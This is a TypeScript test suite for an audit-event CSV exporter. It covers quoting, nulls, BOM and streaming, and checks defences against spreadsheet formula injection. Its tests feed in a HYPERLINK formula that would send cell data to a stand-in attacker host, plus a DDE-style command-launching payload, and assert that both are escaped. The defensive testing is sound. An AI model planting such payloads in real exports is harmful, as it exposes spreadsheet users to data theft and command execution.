import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { describe, it } from 'node:test';
import { AUDIT_CSV_COLUMNS, auditCsvLines, CSV_BOM, csvCell, toCsv } from '../../../src/audit/audit-csv.ts';
import type { StoredAuditEvent } from '../../../src/store/store.ts';

const HEADER = 'id,at,actor,subject,action,outcome,errorCode,clientAddress,reason,details\r\n';

function event(overrides: Partial<StoredAuditEvent> = {}): StoredAuditEvent {
  return {
    id: 7,
    at: new Date('2025-03-04T05:06:07.089Z'),
    actor: 'agent:hd1',
    subject: 'alice',
    action: 'writeback.reset_password',
    outcome: 'success',
    errorCode: null,
    clientAddress: '10.0.0.5',
    reason: 'ticket 42',
    details: { mustChange: true, unlock: false },
    ...overrides,
  };
}

/** A strict RFC 4180 reader (CRLF records, quoted fields with doubled quotes), for round trips. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        assert.ok(quote >= 0, 'unterminated quoted field');
        field += text.slice(i, quote);
        i = quote + 1;
        if (text[i] === '"') {
          field += '"';
          i++;
        } else break;
      }
    } else {
      const end = text.slice(i).search(/[,\r]/);
      const stop = end < 0 ? text.length : i + end;
      field = text.slice(i, stop);
      assert.ok(!field.includes('"') && !field.includes('\n'), `unquoted field holds " or LF: ${field}`);
      i = stop;
    }
    record.push(field);
    if (text[i] === ',') {
      i++;
    } else {
      assert.equal(text.slice(i, i + 2), '\r\n', 'record must end with CRLF');
      i += 2;
      records.push(record);
      record = [];
    }
  }
  return records;
}

/** The parsed row of a single-event export, as column -> value. */
function onlyRow(e: StoredAuditEvent): Record<string, string> {
  const rows = parseCsv(toCsv([e]));
  assert.equal(rows.length, 2);
  return Object.fromEntries(AUDIT_CSV_COLUMNS.map((c, n) => [c, rows[1]![n]!]));
}

describe('toCsv', () => {
  it('when the list is empty, it is the header row alone', () => {
    assert.equal(toCsv([]), HEADER);
  });

  it('when there are events, a header then one CRLF record each, in the given order, ISO UTC times', () => {
    const csv = toCsv([
      event(),
      event({ id: 8, at: new Date('2025-03-04T06:00:00+01:00'), actor: 'self:bob' }),
    ]);
    assert.equal(
      csv,
      `${HEADER}7,2025-03-04T05:06:07.089Z,agent:hd1,alice,writeback.reset_password,success,,10.0.0.5,ticket 42,"{""mustChange"":true,""unlock"":false}"\r\n` +
        `8,2025-03-04T05:00:00.000Z,self:bob,alice,writeback.reset_password,success,,10.0.0.5,ticket 42,"{""mustChange"":true,""unlock"":false}"\r\n`,
    );
    assert.deepEqual(parseCsv(csv)[0], [...AUDIT_CSV_COLUMNS]);
  });

  it('when a value holds commas, double quotes, CR or LF, the field is quoted and reads back intact', () => {
    const reason = 'caller said "it\'s me", then hung up,\r\nline two\nline three\rend';
    const subject = 'CN=Doe\\, John,OU=Staff,DC=example,DC=com';
    const row = onlyRow(event({ reason, subject }));
    assert.equal(row.reason, reason);
    assert.equal(row.subject, subject);
    assert.match(toCsv([event({ reason: 'a "b"' })]), /,"a ""b""",/);
  });

  it('when a value is null, the cell is empty', () => {
    const row = onlyRow(event({ subject: null, errorCode: null, clientAddress: null, reason: null }));
    assert.equal(row.subject, '');
    assert.equal(row.errorCode, '');
    assert.equal(row.clientAddress, '');
    assert.equal(row.reason, '');
  });

  for (const [name, lead] of [
    ['=', '='],
    ['+', '+'],
    ['-', '-'],
    ['@', '@'],
    ['tab', '\t'],
    ['carriage return', '\r'],
  ] as const) {
    it(`when a cell starts with ${name}, it is prefixed with a single quote`, () => {
      const payload = `${lead}HYPERLINK("http://evil.example/?x="&A1,"click")`;
      const row = onlyRow(event({ reason: payload, actor: `${lead}cmd|' /C calc'!A0`, subject: payload }));
      assert.equal(row.reason, `'${payload}`);
      assert.equal(row.subject, `'${payload}`);
      assert.equal(row.actor, `'${lead}cmd|' /C calc'!A0`);
      assert.equal(csvCell(`${lead}1`).replace(/^"|"$/g, ''), `'${lead}1`);
    });
  }

  it('when a reason is a negative number like -1, it is escaped too', () => {
    assert.equal(onlyRow(event({ reason: '-1' })).reason, "'-1");
    assert.match(toCsv([event({ reason: '-1' })]), /,'-1,/);
  });

  it('when a formula hides behind leading spaces or a line feed, it is escaped as well', () => {
    assert.equal(onlyRow(event({ reason: '  =1+1' })).reason, "'  =1+1");
    assert.equal(onlyRow(event({ reason: '\n@SUM(A1)' })).reason, "'\n@SUM(A1)");
  });

  it('when a value only contains those characters later on, it is left alone', () => {
    const row = onlyRow(event({ reason: 'a=b, c+d, e-f, g@h', clientAddress: '2001:db8::1' }));
    assert.equal(row.reason, 'a=b, c+d, e-f, g@h');
    assert.equal(row.clientAddress, '2001:db8::1');
  });

  it('when details are set, they are one JSON column that parses back to the same object', () => {
    const details = { correlationId: 'flow-1', note: '=cmd, "x"\nnext', count: 3, flag: false, none: null };
    const row = onlyRow(event({ details }));
    assert.deepEqual(JSON.parse(row.details!), details);
    assert.equal(onlyRow(event({ details: {} })).details, '{}');
  });

  it('when the time is not a valid date, the cell is empty rather than the export failing', () => {
    assert.equal(onlyRow(event({ at: new Date('nope') })).at, '');
  });

  it('when asked for a BOM, the export starts with it; the stream variant yields the same text', async () => {
    const events = [event(), event({ id: 9, reason: '+x' })];
    assert.equal(toCsv(events, { bom: true }), CSV_BOM + toCsv(events));
    const lines = [...auditCsvLines(events)];
    assert.equal(lines.length, 3);
    let streamed = '';
    for await (const chunk of Readable.from(auditCsvLines(events))) streamed += String(chunk);
    assert.equal(streamed, toCsv(events));
  });
});
